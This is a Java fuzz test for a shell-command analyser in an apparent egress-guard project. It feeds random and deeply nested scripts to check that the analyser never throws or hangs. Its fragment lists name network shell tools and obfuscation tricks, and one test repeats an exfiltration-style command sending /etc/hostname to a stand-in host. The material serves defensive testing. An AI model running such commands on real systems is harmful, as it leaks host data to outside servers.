package dev.egressguard.engine.shell;

import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

/** Random scripts and argv: the analyser never throws and never hangs. */
class CommandAnalyzerFuzzTest {
    private static final String[] FRAGMENTS = {
        "curl", "wget", "nc", "sh", "bash", "-c", "-d", "@-", "@/etc/hostname", "-H", "https://x.example/", "x.example",
        "|", "||", "&&", "&", ";", ";;", "(", ")", "{", "}", "$(", "`", "'", "\"", "\\", "$'", "\\x41", "${", "$IFS",
        "${IFS}", "<<EOF", "<<-'E'", "EOF", "<", ">", "2>&1", "<(", ">(", "$((", "))", "\n", " ", "\t", "#", "eval",
        "case", "esac", "in", "if", "then", "fi", "for", "do", "done", "function", "f()", "=", "A=", "$A", "$1", "$@",
        "xargs", "sudo", "env", "timeout", "-u", "busybox", "powershell", "-enc", "iwr", "cmd", "/c", "^", "%X%",
        "python3", "import socket", "base64", "-d", "scp", "a:b", "socat", "TCP:h:1", "@{a=1}", "\u00e9", "\u0000"};
    private static final String[] TOOLS = {"sh", "bash", "curl", "wget", "cmd", "powershell", "pwsh", "env", "sudo",
        "xargs", "nc", "ssh", "scp", "rsync", "http", "python3", "perl", "socat", "busybox", "timeout", "eval", "aria2c"};

    private final CommandAnalyzer analyzer = new CommandAnalyzer(4096);

    @Test
    void randomInputNeverThrowsOrHangs() {
        Random random = new Random(20261122L);
        assertTimeoutPreemptively(Duration.ofSeconds(120), () -> {
            for (int i = 0; i < 6000; i++) {
                List<String> argv = new ArrayList<>();
                argv.add(TOOLS[random.nextInt(TOOLS.length)]);
                if (random.nextBoolean()) argv.add(random.nextBoolean() ? "-c" : "-lc");
                int args = random.nextInt(4) + 1;
                for (int a = 0; a < args; a++) argv.add(randomText(random, random.nextInt(40)));
                CommandAnalysis analysis = analyzer.analyze(argv, null);
                assertNotNull(analysis.commandLine());
                assertNoInternalFailure(analysis);
                for (NetworkInvocation inv : analysis.invocations()) {
                    for (Payload p : inv.payloads()) {
                        if (p.argIndex() >= 0) assertTrue(argv.get(p.argIndex()).contains(p.text()), "argIndex is verbatim");
                    }
                    for (String d : inv.destinations()) assertTrue(d.contains("://"), "destination is a URL");
                }
            }
        });
    }

    @Test
    void randomCharactersNeverThrow() {
        Random random = new Random(7L);
        assertTimeoutPreemptively(Duration.ofSeconds(60), () -> {
            for (int i = 0; i < 3000; i++) {
                StringBuilder sb = new StringBuilder();
                int len = random.nextInt(200);
                for (int c = 0; c < len; c++) sb.append((char) (random.nextInt(3) == 0 ? random.nextInt(0x3000) : 32 + random.nextInt(95)));
                assertNoInternalFailure(analyzer.analyze(List.of("bash", "-c", sb.toString()), null));
                assertNoInternalFailure(analyzer.analyze(List.of("cmd", "/c", sb.toString()), null));
                assertNoInternalFailure(analyzer.analyze(List.of("pwsh", "-Command", sb.toString()), null));
                assertNoInternalFailure(analyzer.analyze(List.of("curl", sb.toString(), sb.toString()), null));
            }
        });
    }

    @Test
    void largeAdversarialScriptsFinishQuickly() {
        assertTimeoutPreemptively(Duration.ofSeconds(30), () -> {
            String many = "curl -d @/etc/hostname https://x.example/; ".repeat(5000);
            assertTrue(analyzer.analyze(List.of("sh", "-c", many), null).isObfuscated(), "bounded: the rest was not analysed");
            analyzer.analyze(List.of("sh", "-c", "$((".repeat(40_000)), null);
            analyzer.analyze(List.of("sh", "-c", "`".repeat(60_000)), null);
            analyzer.analyze(List.of("sh", "-c", "${".repeat(60_000)), null);
            analyzer.analyze(List.of("sh", "-c", "(".repeat(60_000)), null);
            analyzer.analyze(List.of("sh", "-c", "echo <<A ".repeat(20_000)), null);
            analyzer.analyze(List.of("sh", "-c", "a|".repeat(60_000) + "sh"), null);
            analyzer.analyze(List.of("sh", "-c", "sh -c \\\"".repeat(10_000)), null);
            analyzer.analyze(List.of("pwsh", "-c", "@{".repeat(60_000)), null);
        });
    }

    /** The analyser turns its own exceptions into findings; here they would be bugs. */
    private static void assertNoInternalFailure(CommandAnalysis analysis) {
        for (String reason : analysis.obfuscations()) {
            assertTrue(!reason.startsWith("command could not be analysed") && !reason.contains("parser failure"), reason);
        }
    }

    private static String randomText(Random random, int fragments) {
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < fragments; i++) {
            sb.append(FRAGMENTS[random.nextInt(FRAGMENTS.length)]);
            if (random.nextInt(3) == 0) sb.append(' ');
        }
        return sb.toString();
    }
}
